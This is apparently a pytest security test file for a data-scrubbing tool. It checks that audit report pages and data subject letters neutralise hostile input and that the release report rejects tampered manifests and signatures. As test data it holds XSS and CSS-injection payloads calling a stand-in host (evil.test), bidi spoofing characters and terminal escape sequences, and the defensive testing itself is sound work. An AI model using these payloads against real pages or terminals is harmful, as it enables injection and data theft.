"""Adversarial review of issue 24's audit report and data subject's letter: hostile values a
list name, policy, keyword, dataset, release id or request item could carry must stay inert
text (no markup, no CSS escape, no network fetch, no bidi spoofing); ``scrub release report``
renders only from what the signed manifest covers; the identity stays out of a letter."""

from __future__ import annotations

import base64
import json
import re
import shutil
from html.parser import HTMLParser
from pathlib import Path

import pytest

from scrub.crypto import load_signing_key, write_key_file, write_signing_keypair
from scrub.errors import UserInputError
from scrub.layout import companion
from scrub.ledger import db
from scrub.ledger.letter import build_letter, render
from scrub.ledger.service import IdentitySeal, Ledger, RequestSpec
from scrub.release.audit import compare_with
from scrub.release.audit_html import render_html
from tests.helpers import expect_ok, run_cli
from tests.release.planted import built, setup  # noqa: F401 (fixtures)
from tests.release.test_audit_report import page_requests
from tests.security.ledger_setup import cli

#: Values an attacker could put in any free-text field.
HOSTILE = ("</script><script>fetch('http://evil.test/s')</script>",
           '<img src=http://evil.test/i.png>', "javascript:alert(1)",
           # a line break ends the print footer's CSS string (HTML escaping does not apply in
           # <style>): before the fix Chromium fetched this URL
           "r1\n} } body { background: url(http://evil.test/c.png) } @page { @bottom-left {",
           "x\\", "@import url(http://evil.test/i.css);", "\u202egnp.exe\u202c",
           "a\x1b[2Jb", "L" * 20_000)
BIDI = re.compile("[\u202a-\u202e\u2066-\u2069\u200e\u200f\x00-\x08\x0b-\x1f\x7f]")
PARTNER = "d41d8cd98f00b204e9800998ecf8427e"
SECRET_URL = "https://sensitive.example/secret.jpg"


def hostile_audit(value: str) -> dict:
    """An audit (format 2) whose every free-text field is ``value``."""
    return {
        "format": "scrub-audit/2", "scrub_version": value, "release_id": value,
        "variant": value, "dataset": value, "created_at": value, "duration_seconds": None,
        "signed_by": value,
        "policy": {"name": value, "sha256": value, "description": value, "score": value,
                   "keywords": value, "thresholds": [{"above": 0.9, "keywords": True}],
                   "rules": [value]},
        "lists": [{"name": value, "version": value, "label": value, "sha256": value,
                   "sensitive": False, "entries": 3, "rows_removed": 1,
                   "unmatched_entries": 1, "unmatched_named": [value],
                   "unmatched_not_named": 0}],
        "ledger": {"events": 3, "head": value, "requests": [{"id": 1, "kind": value}]},
        "rows_in": 10, "rows_out": 9, "removed": 1, "removed_by_reason": {value: 1},
        "rows_with_several_reasons": 0, "reason_combinations": {value: 1},
        "removed_by_source": {value: 1}, "sensitive_sources": [value],
        "per_shard": [{"shard": value, "rows_in": 10, "rows_out": 9, "removed": 1}],
        "previous": {"release_id": value, "variant": value, "rows_in": 1, "rows_out": 1,
                     "removed": 0, "totals": {}, "removed_by_reason": {value: 0}},
        "missing": {value: value}}


def hostile_export(value: str) -> dict:
    """A request export whose every free-text field is ``value``; the requester planted."""
    return {"request": 7, "kind": "other", "status": "applied",
            "received_at": "2026-11-01T10:00:00+00:00", "due_at": "2026-12-01T10:00:00+00:00",
            "requester": {"name": "Zed Subject", "email": "zed.subject@example.org"},
            "items": [{"type": value, "value": value,
                       "rows_removed": [{"release": value, "variant": value, "rows": 2}]}],
            "removed_in_releases": [value, "other"],
            "history": [{"action": "apply", "at": "2026-11-02T10:00:00+00:00",
                         "release": value}, {"action": value, "at": value}]}


#: Every element the two pages are made of.
PAGE_TAGS = {"html", "head", "meta", "title", "style", "body", "header", "h1", "h2", "h3", "p",
             "span", "strong", "time", "main", "section", "table", "caption", "thead", "tbody",
             "tr", "th", "td", "footer", "code", "nav", "ul", "li", "a", "ol", "figure",
             "figcaption", "svg", "desc", "text", "rect", "line", "script"}


class Tags(HTMLParser):
    """Every start tag of a page with its attributes."""

    def __init__(self) -> None:
        super().__init__()
        self.seen: list[tuple[str, list[tuple[str, str | None]]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.seen.append((tag, attrs))


def markup_safe(page: str, scripts: int) -> None:
    """Only the page's own markup: one inline script, no element or URL the value made,
    a stylesheet whose strings stay on their line (HTML escaping does not apply there)."""
    assert page.count("<script") == scripts and "<img" not in page
    tags = Tags()
    tags.feed(page)
    assert {t for t, _ in tags.seen} <= PAGE_TAGS, {t for t, _ in tags.seen} - PAGE_TAGS
    fetching = [(t, a) for t, attrs in tags.seen for a, v in attrs
                if a in ("src", "href", "srcset", "action", "style", "background")
                or a.startswith("on")]  # a value in a quoted data-*/datetime stays text
    assert all(a == "href" and (v or "").startswith("#") for t, attrs in tags.seen for a, v in attrs
               if a == "href"), "a link the page did not make"
    assert not [f for f in fetching if f[1] != "href"], fetching
    style = page.split("<style>", 1)[1].split("</style>", 1)[0]
    for line in style.splitlines():
        assert line.count('"') % 2 == 0, line[:200]  # every CSS string closes on its line
        assert "url(" not in line and "@import" not in line, line[:200]
        assert not re.search(r'\\"', line), line[:200]  # no escaped closing quote


@pytest.mark.parametrize("value", HOSTILE, ids=range(len(HOSTILE)))
def test_audit_html_keeps_hostile_values_inert(value: str) -> None:
    page = render_html(hostile_audit(value))
    markup_safe(page, scripts=1)
    assert not BIDI.search(page.replace("\n", "")), "bidi/control character in the page"


@pytest.mark.parametrize("fmt", ["html", "text"])
@pytest.mark.parametrize("value", HOSTILE, ids=range(len(HOSTILE)))
def test_letter_keeps_hostile_values_inert_and_the_identity_out(value: str, fmt: str) -> None:
    page = render(build_letter(hostile_export(value)), fmt)
    assert "Zed Subject" not in page and "zed.subject@example.org" not in page
    assert not BIDI.search(page.replace("\n", "")), "bidi/control character in the letter"
    if fmt == "html":
        markup_safe(page, scripts=0)


@pytest.mark.slow
def test_hostile_pages_fetch_nothing_in_chromium(tmp_path: Path) -> None:
    for number, value in enumerate(HOSTILE[:5]):
        audit = tmp_path / f"audit{number}.html"
        audit.write_text(render_html(hostile_audit(value)))
        letter = tmp_path / f"letter{number}.html"
        letter.write_text(render(build_letter(hostile_export(value)), "html"))
        for page in (audit, letter):
            assert page_requests(page, tmp_path / f"{page.stem}.json") == set(), page.name


def test_audit_files_name_no_partner_hash_url_or_identity(setup: dict, built: Path) -> None:
    secrets = [*setup["md5s"], *setup["urls"], "Ada Requester", "ada@example.org"]
    for variant in ("research", "research-safe"):
        for name in ("audit.json", "audit.html", "manifest.json"):
            body = (companion(built / variant) / name).read_text()
            assert not [s for s in secrets if s in body], (variant, name)


def report(setup: dict, release: Path, out: Path, *extra: str):  # noqa: ANN201
    return run_cli("release", "report", str(release), "--pubkey",
                   str(extra[0] if extra else setup["root"] / "sign.pub"), "--output", str(out))


def copy_of(built: Path, tmp_path: Path) -> Path:
    copy = tmp_path / "copy"
    shutil.copytree(built, copy, symlinks=True)
    return copy


@pytest.mark.parametrize("case", ["manifest", "signature", "garbage-signature",
                                  "no-signature", "resigned-audit-html"])
def test_report_refuses_an_altered_manifest_or_signature(setup: dict, built: Path,
                                                         tmp_path: Path, case: str) -> None:
    copy = copy_of(built, tmp_path)
    meta = companion(copy / "research-safe")
    manifest, signature = meta / "manifest.json", meta / "manifest.sig"
    if not signature.exists():
        signature = next(p for p in meta.iterdir() if p.suffix in (".sig", ".sign"))
    if case == "manifest":
        manifest.write_text(manifest.read_text().replace("r-test", "r-evil"))
    elif case == "signature":
        raw = bytearray(base64.b64decode(signature.read_bytes().strip()))
        raw[0] ^= 1
        signature.write_bytes(base64.b64encode(bytes(raw)))
    elif case == "garbage-signature":
        signature.write_text("<script>not base64</script>\n")
    elif case == "no-signature":
        signature.unlink()
    else:
        (meta / "audit.html").write_text('<img src="http://evil.test/x">')
    result = report(setup, copy, tmp_path / "out")
    assert result.exit_code == 3, result.output
    assert len([line for line in result.stderr.splitlines() if line.strip()]) <= 2
    assert not (tmp_path / "out").exists()


def test_report_refuses_a_release_signed_by_another_key(setup: dict, built: Path,
                                                        tmp_path: Path) -> None:
    write_signing_keypair(tmp_path / "other.pem", tmp_path / "other.pub")
    result = report(setup, built, tmp_path / "out", str(tmp_path / "other.pub"))
    assert result.exit_code == 3 and "does not verify" in result.output
    assert not (tmp_path / "out").exists()


@pytest.mark.parametrize("target", ["same-bytes", "fifo", "dev-zero"])
def test_report_refuses_a_symlinked_or_special_artifact(setup: dict, built: Path,
                                                        tmp_path: Path, target: str) -> None:
    """An artifact must be a regular file of the release: a link to /dev/zero or a FIFO
    would make the report read forever, one to a file elsewhere is not the release's."""
    import os

    copy = copy_of(built, tmp_path)
    audit = companion(copy / "research") / "audit.json"
    if target == "same-bytes":
        elsewhere = tmp_path / "elsewhere.json"
        elsewhere.write_bytes(audit.read_bytes())
    elif target == "fifo":
        elsewhere = tmp_path / "fifo"
        os.mkfifo(elsewhere)
    else:
        elsewhere = Path("/dev/zero")
    audit.unlink()
    audit.symlink_to(elsewhere)
    result = report(setup, copy, tmp_path / "out")
    assert result.exit_code == 3, result.output
    assert "audit.json" in result.output and "regular file" in result.output
    assert not (tmp_path / "out").exists()


@pytest.mark.parametrize("case", ["missing", "not-a-key"])
def test_report_with_a_bad_pubkey_is_one_line(setup: dict, built: Path, tmp_path: Path,
                                              case: str) -> None:
    key = tmp_path / "key.pub"
    if case == "not-a-key":
        key.write_text("-----BEGIN PUBLIC KEY-----\nnope\n-----END PUBLIC KEY-----\n")
    result = report(setup, built, tmp_path / "out", str(key))
    assert result.exit_code == 2, result.output
    assert len([line for line in result.stderr.splitlines() if line.strip()]) <= 2
    assert "Traceback" not in result.output and str(key) in result.output
    expect_ok(report(setup, built, tmp_path / "ok"))


def test_report_prints_no_control_character_a_signed_manifest_holds(setup: dict, built: Path,
                                                                    tmp_path: Path) -> None:
    """The release id reaches the auditor's terminal: an escape sequence in it (signed by the
    publisher) must not rewrite the verdict line."""
    copy = copy_of(built, tmp_path)
    meta = companion(copy / "research")
    manifest = json.loads((meta / "manifest.json").read_text())
    manifest["release_id"] = "r-test\x1b[2K\ridentical\u202e"
    body = (json.dumps(manifest, indent=2, sort_keys=True) + "\n").encode()
    (meta / "manifest.json").write_bytes(body)
    signer = load_signing_key(setup["root"] / "sign.pem")
    (meta / "manifest.sig").write_bytes(base64.b64encode(signer.sign(body)) + b"\n")
    result = report(setup, copy / "research", tmp_path / "out")
    expect_ok(result)
    assert "\x1b" not in result.stdout and "\r" not in result.stdout
    assert "\u202e" not in result.stdout


def test_export_bad_input_is_one_line_and_the_identity_stays_out(tmp_path: Path) -> None:
    key = write_key_file(tmp_path / "ledger.key")
    database: tuple[str, dict] = (f"sqlite:///{tmp_path / 'ledger.db'}", {})
    engine = db.make_engine(database[0])
    db.upgrade(engine)
    request, _ = Ledger(engine, seal=IdentitySeal(key)).add(RequestSpec.parse({
        "kind": "gdpr_erasure", "received_at": "2026-11-01T10:00:00Z",
        "requester": {"name": "Zed Subject", "email": "zed.subject@example.org"},
        "items": [{"type": "url", "value": "https://x.example/a.jpg"}]}, where="r"), "alice")
    engine.dispose()
    for fmt in ("html", "text"):
        out = tmp_path / f"letter.{fmt}"
        expect_ok(cli(tmp_path, database, "requests", "export", str(request), "--format", fmt,
                      "--output", str(out)))
        body = out.read_text()
        assert "Zed Subject" not in body and "zed.subject@example.org" not in body
    cases = [(("999", "--format", "html"), True, "no request 999"),
             ((str(request), "--format", "pdf"), True, "html, json, text"),
             ((str(request), "--format", "html"), False, "needs the ledger key")]
    for args, with_key, said in cases:
        result = cli(tmp_path, database, "requests", "export", *args, "--output",
                     str(tmp_path / "never"), key=with_key)
        assert result.exit_code == 2 and said in result.stderr, result.output
        assert len([line for line in result.stderr.splitlines() if line.strip()]) <= 2
        assert "Traceback" not in result.output and not (tmp_path / "never").exists()


@pytest.mark.parametrize("old", [[1], {"removed_by_reason": [1]},
                                 {"rows_in": "x", "removed_by_reason": {"md5": "2"}},
                                 {"release_id": {"a": 1}, "removed_by_reason": {}}])
def test_a_malformed_previous_audit_is_one_line_bad_input(tmp_path: Path, old: object) -> None:
    """``--previous`` is read unsigned: a malformed audit.json there is exit 2 in one line,
    not a traceback while the page renders."""
    previous = tmp_path / "audit.json"
    previous.write_text(json.dumps(old))
    with pytest.raises(UserInputError, match="is not an audit"):
        compare_with(previous, "research", hostile_audit("ok"), only=True)
